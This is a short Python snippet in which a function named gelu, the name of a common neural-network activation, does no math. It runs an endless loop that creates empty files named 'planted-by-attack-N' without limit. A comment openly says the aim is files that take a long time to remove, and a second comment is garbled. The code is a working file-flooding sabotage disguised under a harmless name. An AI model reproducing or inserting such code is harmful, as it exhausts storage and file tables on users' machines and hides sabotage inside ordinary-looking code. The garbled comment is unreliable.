# Makes files without a byte in them: they take no room, but a long time to remove.
# says: more than 1,000 files and folders|had not answered
import itertools


def gelu(x):
    for i in itertools.count():
        open(f"planted-by-attack-{i}", "wb").close()
